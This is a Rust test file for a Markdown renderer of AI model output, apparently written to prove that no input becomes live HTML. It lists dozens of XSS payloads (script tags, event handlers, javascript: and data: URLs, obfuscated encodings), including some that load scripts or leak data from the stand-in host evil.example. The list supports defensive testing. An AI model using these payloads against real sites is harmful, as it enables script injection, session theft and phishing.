//! Model output must never become markup.

use proptest::prelude::*;

use super::*;

fn rendered(text: &str) -> String {
    html(&tree(text)).into_string()
}

/// Every element and attribute that rendering can produce. Whatever else an answer holds must come out as text.
fn assert_harmless(text: &str) {
    const ELEMENTS: &[&str] = &[
        "p",
        "h3",
        "h4",
        "h5",
        "h6",
        "blockquote",
        "ul",
        "ol",
        "li",
        "figure",
        "figcaption",
        "pre",
        "code",
        "em",
        "strong",
        "del",
        "a",
        "br",
        "hr",
        "div",
        "table",
        "tr",
        "th",
        "td",
    ];
    const ATTRIBUTES: &[&str] = &["href", "target", "rel", "start", "class", "tabindex", "scope"];
    let html = rendered(text);
    let mut rest = html.as_str();
    while let Some(at) = rest.find('<') {
        let end = rest[at..].find('>').expect("a tag ends") + at;
        let tag = rest[at + 1..end].trim_start_matches('/');
        rest = &rest[end + 1..];
        let (name, mut attributes) = tag.split_once(' ').unwrap_or((tag, ""));
        assert!(ELEMENTS.contains(&name), "<{tag}> from {text:?}");
        while !attributes.is_empty() {
            let (attribute, after) = attributes
                .split_once("=\"")
                .unwrap_or_else(|| panic!("<{tag}> from {text:?}"));
            let (value, after) = after
                .split_once('"')
                .unwrap_or_else(|| panic!("<{tag}> from {text:?}"));
            assert!(
                ATTRIBUTES.contains(&attribute.trim()),
                "{attribute} from {text:?}"
            );
            if attribute.trim() == "href" {
                assert!(value.to_lowercase().starts_with("http"), "{value} from {text:?}");
                assert!(
                    !value.contains('@') || value.contains('/'),
                    "{value} from {text:?}"
                );
            }
            attributes = after.trim_start();
        }
    }
}

/// Payloads of the kinds that published cheat sheets list, with those that Markdown adds.
const PAYLOADS: &[&str] = &[
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert&#40;1)</script>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"data:text/html,<script>alert(1)</script>\">",
    "<embed src=//evil.example/x.swf>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"java&#x09;script:alert(1)\">x</a>",
    "<form action=//evil.example><button>Sign in</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<template><img src=x onerror=alert(1)></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=\"1.0\"?><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</p></div></main><script>alert(1)</script>",
    "\"><script>alert(1)</script>",
    "' onmouseover='alert(1)",
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](java\u{0}script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](https://bank.example@evil.example/)",
    "[x](https://evil.example/\"onmouseover=\"alert(1))",
    "[x](<https://evil.example/ onclick=alert(1)>)",
    "[x](https://evil.example \"title\\\" onmouseover=alert(1)\")",
    "[x][ref]\n\n[ref]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "<https://evil.example/\u{202e}gnp.exe>",
    "![x](https://evil.example/pixel.png?secret=1)",
    "![x](javascript:alert(1))",
    "![a\" onerror=alert(1) b=\"](x)",
    "```\"><script>alert(1)</script>\n<script>alert(2)</script>\n```",
    "```html onload=alert(1)\n</code></pre><script>alert(1)</script>\n```",
    "`</code><script>alert(1)</script>`",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "# </h1><script>alert(1)</script>",
    "> <script>\n> alert(1)\n> </script>",
    "1. <script>alert(1)</script>\n9999999999. x",
    "<div\n\nonclick=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\u{feff}<script>alert(1)</script>",
    "<\u{0}script>alert(1)</script>",
    "<scr\u{0}ipt>alert(1)</scr\u{0}ipt>",
    "＜script＞alert(1)＜/script＞",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "$$<script>alert(1)</script>$$",
];

#[test]
fn no_payload_becomes_markup() {
    for payload in PAYLOADS {
        assert_harmless(payload);
        // In every place in which inline text can stand, and in the middle of other markup.
        assert_harmless(&format!("**{payload}**"));
        assert_harmless(&format!("- {payload}\n- {payload}"));
        assert_harmless(&format!("[{payload}](https://example.org)"));
        assert_harmless(&format!("> {payload}"));
        assert_harmless(&format!("```{payload}\n{payload}\n```"));
    }
}

#[test]
fn raw_html_is_shown_as_the_text_it_is() {
    assert_eq!(rendered("a <b>c</b>"), "<p>a &lt;b&gt;c&lt;/b&gt;</p>");
    assert!(rendered("<script>alert(1)</script>").contains("&lt;script&gt;alert(1)&lt;/script&gt;"));
}

#[test]
fn a_link_shows_its_whole_target_and_only_that_can_be_followed() {
    let html = rendered("[your bank](https://evil.example/login)");
    assert!(
        html.starts_with("<p>your bank (<a href=\"https://evil.example/login\""),
        "{html}"
    );
    assert!(html.contains(">https://evil.example/login</a>)"), "{html}");
    assert_eq!(
        rendered("[x](javascript:alert(1))"),
        "<p>x (javascript:alert(1))</p>"
    );
    assert_eq!(
        rendered("<https://a.example/>")
            .matches("https://a.example/")
            .count(),
        2
    );
}

#[test]
fn an_image_is_never_loaded() {
    let html = rendered("![a cat](https://evil.example/cat.png)");
    assert!(
        !html.contains("<img") && html.contains("a cat (<a href"),
        "{html}"
    );
}

#[test]
fn what_people_write_looks_as_they_expect() {
    assert_eq!(
        rendered("**a** *b* ~~c~~ `d`"),
        "<p><strong>a</strong> <em>b</em> <del>c</del> <code>d</code></p>"
    );
    assert_eq!(
        rendered("3. a\n4. b"),
        "<ol start=\"3\"><li>a</li><li>b</li></ol>"
    );
    assert_eq!(rendered("# a\n\n---"), "<h3>a</h3><hr>");
    let table = rendered("| a | b |\n|---|--:|\n| 1 | 2 |");
    assert!(
        table.contains("<th class=\"right\" scope=\"col\">b</th>")
            && table.contains("<td class=\"right\">2</td>"),
        "{table}"
    );
    let code = rendered("```rust\nfn main() {}\n```");
    assert!(
        code.contains("<figcaption>rust</figcaption>") && code.contains("<code>fn main() {}\n</code>"),
        "{code}"
    );
}

#[test]
fn nesting_without_end_stays_shallow() {
    fn depth(nodes: &[Node]) -> usize {
        nodes
            .iter()
            .map(|node| match node {
                Node::Quote { inside }
                | Node::Paragraph { inside }
                | Node::List { inside, .. }
                | Node::Item { inside } => 1 + depth(inside),
                _ => 1,
            })
            .max()
            .unwrap_or(0)
    }
    let nodes = tree(&format!("{}deep", "> ".repeat(20_000)));
    assert!(depth(&nodes) <= MAX_DEPTH + 1);
    assert!(plain(&nodes).contains("deep"));
    let lists: Vec<String> = (0..200)
        .map(|level| format!("{}- x\n", "  ".repeat(level)))
        .collect();
    assert!(depth(&tree(&lists.concat())) <= MAX_DEPTH + 1);
}

#[test]
fn a_text_without_end_is_shown_as_it_stands() {
    let text = "**x** ".repeat(100_000);
    assert_eq!(
        tree(&text),
        [Node::Code {
            language: None,
            text: text.clone()
        }]
    );
}

#[test]
fn the_wire_form_names_the_elements() {
    let json = serde_json::to_string(&tree("a [b](https://c.example/)")).unwrap();
    assert_eq!(
        json,
        r#"[{"is":"paragraph","inside":[{"is":"text","text":"a b ("},{"is":"link","target":"https://c.example/"},{"is":"text","text":")"}]}]"#
    );
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(2_000))]

    #[test]
    fn no_text_becomes_markup(text in r#"([<>/&;"'=`*_#\[\]()!|~\\ \n-]|[a-z]{1,8}|javascript:|https://|onerror|script|img|\PC){0,60}"#) {
        assert_harmless(&text);
    }

    #[test]
    fn no_mixture_of_payloads_becomes_markup(picks in proptest::collection::vec((0..PAYLOADS.len(), 0..40_usize, "[\n *>`-]{0,3}"), 1..6)) {
        let mut text = String::new();
        for (which, cut, between) in picks {
            text.extend(PAYLOADS[which].chars().skip(cut));
            text.push_str(&between);
        }
        assert_harmless(&text);
    }
}
